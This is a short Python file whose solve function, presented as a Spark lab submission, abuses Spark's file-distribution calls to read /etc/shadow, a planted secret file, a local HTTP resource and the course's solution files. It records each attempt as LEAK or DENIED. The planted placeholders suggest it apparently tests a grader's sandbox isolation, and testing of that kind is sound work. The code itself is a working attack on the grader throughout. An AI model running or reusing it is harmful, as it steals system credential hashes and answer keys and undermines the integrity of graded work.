"""Lets Spark fetch the grader's files and hand them to its workers."""
import os
def solve(lines):
    from pyspark import SparkFiles
    sc = lines.context
    found = []
    for add in (sc.addFile, sc.addPyFile, sc.addArchive, sc._jsc.sc().addJar):
        for url in ("file:///etc/shadow", "COURSE_ROOT/solutions/plain/lab.py", "file://PLANTED/secret.json", "http://127.0.0.1:25999/x.py"):
            try:
                add(url)
                name = os.path.basename(url)
                with open(SparkFiles.get(name)) as file:
                    found.append(("LEAK", url, file.read(40)))
            except Exception as problem:
                found.append(("DENIED", url + " " + type(problem).__name__))
    try:
        sc.addFile("COURSE_ROOT/solutions", recursive=True)
        found += [("LEAK", name) for _, _, names in os.walk(SparkFiles.get("solutions")) for name in names]
    except Exception as problem:
        found.append(("DENIED", type(problem).__name__))
    return found
